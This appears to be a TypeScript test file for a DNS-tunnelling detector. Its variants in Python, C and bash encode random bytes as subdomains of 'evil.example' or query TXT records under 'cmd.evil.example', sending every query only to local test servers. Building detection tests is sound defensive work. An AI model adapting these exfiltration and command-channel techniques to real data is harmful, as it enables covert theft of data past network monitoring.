import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Place, Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

let port = 0;
let asked = 0;

/** A name server outside of the job, which counts what it is asked. */
async function prepare() {
  const server = createSocket("udp4");
  asked = 0;
  server.on("message", () => asked++);
  server.bind(0, "127.0.0.1");
  await once(server, "listening");
  ({ port } = server.address());
  return () => server.close();
}

async function prepareSource({ directory }: Place) {
  writeFileSync(join(directory, "client.c"), source);
  return await prepare();
}

const happened = ({ stdout, stderr }: Traced) => assert.match(stdout, /asked all/, stderr);
const found = {
  ...{ signature: "JW-144", severity: "high", behaviour: "dns_tunnel" },
} as const satisfies Partial<Variant["found"]>;

const python = `
import base64, os, socket, struct
def question(name, type):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", type, 1)
`;

/** Sends random data in hexadecimal, many questions in one call. */
const source = `
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>

int main(int count, char **args)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(args[1])) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	unsigned char bytes[8][256] = {}, data[24];
	struct iovec parts[8];
	struct mmsghdr messages[8] = {};

	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	connect(fd, (struct sockaddr *)&to, sizeof(to));
	for (int i = 0; i < 8; i++) {
		unsigned char *end = bytes[i] + 12;

		bytes[i][2] = bytes[i][5] = 1;
		getrandom(data, sizeof(data), 0);
		*end++ = 48;
		for (int k = 0; k < 24; k++)
			end += sprintf((char *)end, "%02x", data[k]);
		memcpy(end, "\\4evil\\7example\\0\\0\\1\\0\\1", 18);
		parts[i] = (struct iovec){ bytes[i], end + 18 - bytes[i] };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	printf("asked %s\\n", sendmmsg(fd, messages, 8, 0) == 8 ? "all" : "less");
}
`;

export const variants: Variant[] = [
  {
    name: "python sends base32 to a server of its own",
    prepare,
    command: () => [
      ...["python3", "-c"],
      `${python}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(8):
    chunk = base64.b32encode(os.urandom(25)).decode().lower()
    s.sendto(question(f"{i}.{chunk}.t.evil.example", 1), ("127.0.0.1", ${port}))
print("asked all")`,
    ],
    happened: (traced) => {
      happened(traced);
      assert.equal(asked, 8);
    },
    found: { ...found, program: "/python3.11", message: /below evil\.example, such as/ },
  },
  {
    name: "python gets records of text over TCP",
    command: () => [
      ...["python3", "-c"],
      `${python}
listener = socket.create_server(("127.77.0.1", 53))
s = socket.create_connection(("127.77.0.1", 53))
for i in range(12):
    message = question(f"{i}.cmd.evil.example", 16)
    s.sendall(struct.pack("!H", len(message)) + message)
print("asked all")`,
    ],
    happened,
    found: { ...found, program: "/python3.11", message: /TXT records of 10 different names/ },
  },
  {
    name: "a program in C sends eight questions in one call",
    prepare: prepareSource,
    command: () => ["sh", "-c", `gcc -w -o client client.c && ./client ${port}`],
    happened,
    found: { ...found, program: "/client", message: /below evil\.example/ },
  },
  {
    name: "a program of the system asks for names made of a file",
    command: () => [
      ...["bash", "-c"],
      `for i in 1 2 3 4 5; do
  data=$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n')
  timeout 0.2 busybox nslookup $data.evil.example 127.0.0.1 >log 2>&1
done; echo asked all`,
    ],
    happened,
    found: { ...found, program: "/busybox", message: /below evil\.example/ },
  },
];
